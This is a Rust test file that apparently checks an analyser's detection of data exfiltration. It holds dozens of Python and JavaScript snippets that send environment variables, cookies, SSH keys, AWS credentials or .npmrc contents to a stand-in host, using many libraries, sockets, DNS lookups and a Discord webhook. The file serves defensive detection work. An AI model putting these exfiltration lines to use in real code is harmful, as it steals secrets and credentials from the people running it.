//! Ways in which the same thing leaves: every library, every form of call. The whole environment, or a credential file, goes
//! to a fixed address in each of these scripts.

use super::flows;
use super::machine::{Machine, Reach};
use crate::model::Severity;
use crate::parse::script::{Language, read};

fn leaves(language: Language, code: &str) -> bool {
    let outcome = Machine::new(read(language, code), Reach { fuel: 300_000, more: 1_700_000 }).run();
    flows::judge(&outcome, false).iter().any(|f| f.severity.unwrap_or(f.rule.severity) >= Severity::High)
}

const PYTHON: &[&str] = &[
    r#"import aiohttp, asyncio, os
async def m():
    async with aiohttp.ClientSession() as s:
        async with s.post('https://h.invalid', json=dict(os.environ)) as r:
            await r.text()
asyncio.run(m())"#,
    r#"import asyncio, os
async def f():
    r, w = await asyncio.open_connection('h.invalid', 80)
    w.write(str(dict(os.environ)).encode())
    await w.drain()
asyncio.run(f())"#,
    r#"import atexit, os, requests
@atexit.register
def f():
    requests.post('https://h.invalid', data=dict(os.environ))"#,
    r#"import boto3, os
boto3.client('s3', aws_access_key_id='AKIA', aws_secret_access_key='x').put_object(Bucket='b', Key='k', Body=str(dict(os.environ)))"#,
    r#"import os, requests
class A:
    def __init__(self):
        self.d = dict(os.environ)
    def go(self):
        requests.post('https://h.invalid', data=self.d)
A().go()"#,
    r#"import os, json, subprocess
subprocess.run(['curl', '-X', 'POST', '-d', json.dumps(dict(os.environ)), 'https://h.invalid'])"#,
    r#"import os
os.system('env | curl -s -X POST --data-binary @- https://h.invalid')"#,
    r#"import os, socket, base64
for c in [base64.b32encode(os.environ['USER'].encode())]:
    socket.gethostbyname(c.decode() + '.x.h.invalid')"#,
    r#"import ftplib, os, io
f = ftplib.FTP('h.invalid', 'a', 'b')
f.storbinary('STOR x', io.BytesIO(str(dict(os.environ)).encode()))"#,
    r#"import os, requests
for r, d, fs in os.walk(os.path.expanduser('~/.ssh')):
    for f in fs:
        requests.post('https://h.invalid', files={'f': open(os.path.join(r, f), 'rb')})"#,
    r#"import http.client, os, json
c = http.client.HTTPSConnection('h.invalid')
c.request('POST', '/', json.dumps(dict(os.environ)))"#,
    r#"import httpx, os
httpx.request('POST', 'https://h.invalid', json=dict(os.environ))"#,
    r#"import httpx, os
with httpx.Client() as c:
    c.post('https://h.invalid', json=dict(os.environ))"#,
    r#"import os, requests
requests.get('https://h.invalid/?' + '&'.join(f'{k}={v}' for k, v in os.environ.items()))"#,
    r#"import os, requests
d = {}
for k, v in os.environ.items():
    d[k] = v
requests.post('https://h.invalid', data=d)"#,
    r#"import urllib.request, os
o = urllib.request.build_opener()
urllib.request.install_opener(o)
r = urllib.request.Request('https://h.invalid', data=str(dict(os.environ)).encode(), method='POST')
urllib.request.urlopen(r)"#,
    r#"import paramiko, os
t = paramiko.Transport(('h.invalid', 22))
t.connect(username='a', password='b')
s = paramiko.SFTPClient.from_transport(t)
s.put(os.path.expanduser('~/.ssh/id_rsa'), '/x')"#,
    r#"from pathlib import Path
import requests
for p in Path.home().joinpath('.aws').glob('*'):
    requests.post('https://h.invalid', data=p.read_bytes())"#,
    r#"import pycurl, os, json
c = pycurl.Curl()
c.setopt(c.URL, 'https://h.invalid')
c.setopt(pycurl.POSTFIELDS, json.dumps(dict(os.environ)))
c.perform()"#,
    r#"import requests, os
s = requests.Session()
r = requests.Request('POST', 'https://h.invalid', json=dict(os.environ)).prepare()
s.send(r)"#,
    r#"import socket, os
s = socket.socket()
s.connect(('h.invalid', 4444))
s.sendall(str(dict(os.environ)).encode())"#,
    r#"import os, requests, threading
def f():
    requests.post('https://h.invalid', data=dict(os.environ))
threading.Thread(target=f, daemon=True).start()"#,
    r#"import urllib3, os, json
h = urllib3.PoolManager()
h.request('POST', 'https://h.invalid', body=json.dumps(dict(os.environ)))"#,
    r#"import urllib3, os, json
urllib3.PoolManager().urlopen('POST', 'https://h.invalid', body=json.dumps(dict(os.environ)))"#,
    r#"import websocket, os
w = websocket.create_connection('wss://h.invalid')
w.send(str(dict(os.environ)))"#,
    r#"import websockets, asyncio, os
async def f():
    async with websockets.connect('wss://h.invalid') as w:
        await w.send(str(dict(os.environ)))
asyncio.run(f())"#,
];

const JAVASCRIPT: &[&str] = &[
    r#"const fs=require('fs/promises'); const os=require('os'); (async()=>{const k=await fs.readFile(os.homedir()+'/.ssh/id_rsa','utf8'); await fetch('https://h.invalid',{method:'POST',body:k})})()"#,
    r#"const a=require('axios'); a({method:'post',url:'https://h.invalid',data:process.env})"#,
    r#"const a=require('axios').create({baseURL:'https://h.invalid'}); a.post('/x',process.env)"#,
    r#"navigator.sendBeacon('https://h.invalid', document.cookie)"#,
    r#"await fetch('https://h.invalid',{method:'POST',body:JSON.stringify(Bun.env)})"#,
    r#"const fs=require('fs'); fs.readFile(process.env.HOME+'/.aws/credentials',(e,d)=>{require('https').get('https://h.invalid/'+d)})"#,
    r#"import {createRequire} from 'module'; const require=createRequire(import.meta.url); require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"require('child_process').execSync(`curl -d '${JSON.stringify(process.env)}' https://h.invalid`)"#,
    r#"await fetch('https://h.invalid',{method:'POST',body:JSON.stringify(Deno.env.toObject())})"#,
    r#"const s=require('dgram').createSocket('udp4'); s.send(Buffer.from(JSON.stringify(process.env)),53,'h.invalid')"#,
    r#"const {WebhookClient}=require('discord.js'); new WebhookClient({url:'https://discord.com/api/webhooks/123/abc'}).send(JSON.stringify(process.env))"#,
    r#"import('node:https').then(h=>h.request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env)))"#,
    r#"const F=require('form-data'); const f=new F(); f.append('e',JSON.stringify(process.env)); require('axios').post('https://h.invalid',f)"#,
    r#"const h=process.getBuiltinModule('https'); h.request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"const fs=require('fs'),p=require('path'),os=require('os'); for(const f of fs.readdirSync(p.join(os.homedir(),'.ssh'))) fetch('https://h.invalid',{method:'POST',body:fs.readFileSync(p.join(os.homedir(),'.ssh',f))})"#,
    r#"require('got').post('https://h.invalid',{json:process.env})"#,
    r#"import got from 'got'; await got.post('https://h.invalid',{json:{...process.env}})"#,
    r#"const c=require('http2').connect('https://h.invalid'); const s=c.request({':method':'POST',':path':'/'}); s.write(JSON.stringify(process.env)); s.end()"#,
    r#"const h=require('node:https'); const r=h.request({hostname:'h.invalid',path:'/',method:'POST'}); r.end(JSON.stringify(process.env))"#,
    r#"const https=require('https'); https.get('https://h.invalid/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))"#,
    r#"new Image().src='https://h.invalid/?c='+document.cookie"#,
    r#"process.mainModule.require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))"#,
    r#"const net=require('net'); const c=new net.Socket(); c.connect(4444,'h.invalid',function(){ c.write(JSON.stringify(process.env)) })"#,
    r#"const f=require('node-fetch'); f('https://h.invalid',{method:'POST',body:JSON.stringify(Object.entries(process.env))})"#,
    r#"const {promises:fs}=require('fs'); fs.readFile(require('os').homedir()+'/.npmrc','utf8').then(k=>fetch('https://h.invalid',{method:'POST',body:k}))"#,
    r#"require('request')({url:'https://h.invalid',method:'POST',json:process.env})"#,
    r#"const io=require('socket.io-client'); const s=io('https://h.invalid'); s.emit('x',process.env)"#,
    r#"require('superagent').post('https://h.invalid').send(process.env).end()"#,
    r#"const s=require('tls').connect(443,'h.invalid',()=>{s.write(JSON.stringify(process.env))})"#,
    r#"const {request}=require('undici'); request('https://h.invalid',{method:'POST',body:JSON.stringify(process.env)})"#,
    r#"require('vm').runInNewContext("r('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(p.env))",{r:require,p:process})"#,
    r#"const {Worker}=require('worker_threads'); new Worker(`require('https').request({host:'h.invalid',method:'POST'}).end(JSON.stringify(process.env))`,{eval:true})"#,
    r#"const W=require('ws'); const w=new W('wss://h.invalid'); w.on('open',()=>w.send(JSON.stringify(process.env)))"#,
    r#"const w=new WebSocket('wss://h.invalid'); w.onopen=()=>w.send(JSON.stringify(process.env))"#,
    r#"const x=new XMLHttpRequest(); x.open('POST','https://h.invalid'); x.send(JSON.stringify(process.env))"#,
];

#[test]
fn whatever_library_it_leaves_by() {
    for (language, scripts) in [(Language::Python, PYTHON), (Language::JavaScript, JAVASCRIPT)] {
        for script in scripts {
            assert!(leaves(language, script), "{language:?}: {script}");
        }
    }
}

#[test]
fn what_tells_nothing_may_leave() {
    for script in PYTHON {
        let harmless =
            script.replace("dict(os.environ)", "{'version': '1.0'}").replace("os.environ.items()", "{}.items()");
        let tells = ["os.environ['USER']", ".ssh", ".aws", "env | curl"].iter().any(|word| harmless.contains(word));
        assert!(tells || !leaves(Language::Python, &harmless), "{harmless}");
    }
    for script in JAVASCRIPT {
        let harmless = ["process.env", "Bun.env", "Deno.env.toObject()", "document.cookie", "p.env"]
            .iter()
            .fold((*script).to_owned(), |s, word| s.replace(word, "{ version: 1 }"));
        let tells = [".ssh", ".npmrc", "credentials", "discord.com"].iter().any(|word| harmless.contains(word));
        assert!(tells || !leaves(Language::JavaScript, &harmless), "{harmless}");
    }
}
